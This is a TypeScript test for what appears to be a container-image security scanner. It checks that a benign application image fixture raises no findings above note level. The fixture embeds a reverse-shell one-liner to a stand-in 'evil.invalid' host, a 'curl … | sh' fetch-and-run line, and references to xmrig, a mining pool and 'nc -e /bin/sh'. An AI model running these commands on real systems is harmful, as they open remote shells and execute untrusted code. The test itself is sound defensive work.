import assert from 'node:assert/strict';
import { test } from 'node:test';
import { DETECTORS } from '../../all.ts';
import { inspectFixture } from '../../testing/fixture.ts';

/* What false positives are measured by: an application image as people build it has nothing above a note. */

const OURS = DETECTORS.filter(({ id }) => /^(?:config|scripts|network)\//.test(id));

const ENTRY = `#!/bin/sh
set -eu
# wait for the database: never use "bash -i >& /dev/tcp/…" here
until (echo > /dev/tcp/$DB_HOST/5432) >/dev/null 2>&1; do sleep 1; done
export TOKEN="$(cat /run/secrets/token)"
echo "$LICENCE" | base64 -d > /tmp/licence
curl -fsS -H "Authorization: Bearer $TOKEN" http://localhost:8080/warm || true
exec su-exec app /usr/local/bin/app "$@"
`;

test('an ordinary application image has nothing above a note', () => {
  const { findings, problems } = inspectFixture(
    {
      catalogers: [],
      layers: [
        {
          'usr/local/bin/app': {
            data: '\x7fELF\x02\x01\x01\0static go binary\0https://api.example/v1\0',
            mode: 0o755,
          },
          'entrypoint.sh': { data: ENTRY, mode: 0o755 },
          'app/README.md': 'Not xmrig. Do not run `bash -i >& /dev/tcp/evil.invalid/1 0>&1`.',
          'app/node_modules/a/index.js':
            '/**\n * Detects xmrig, stratum+tcp://pool.invalid:3333 and nc -e /bin/sh\n */\nmodule.exports = 1;\n',
          'app/node_modules/a/README.md': 'curl https://evil.invalid/x | sh',
          'usr/lib/python3/dist-packages/distutils-precedence.pth':
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
        },
      ],
      config: {
        user: 'app',
        entrypoint: ['/entrypoint.sh'],
        cmd: ['serve'],
        healthcheck: ['CMD-SHELL', 'curl -f http://localhost:8080/health || exit 1'],
        env: [
          'PATH=/usr/local/bin:/usr/bin:/bin',
          'NODE_OPTIONS=--max-old-space-size=4096',
          'NODE_ENV=production',
        ],
        history: [
          {
            createdBy: 'RUN /bin/sh -c curl -fsSL https://deb.nodesource.com/setup_22.x | bash - # buildkit',
            emptyLayer: false,
          },
        ],
      },
    },
    OURS,
  );
  assert.deepEqual(
    findings.filter(({ tier }) => tier !== 'note').map(({ rule, evidence }) => `${rule}: ${evidence}`),
    [],
  );
  assert.deepEqual(problems, []);
});
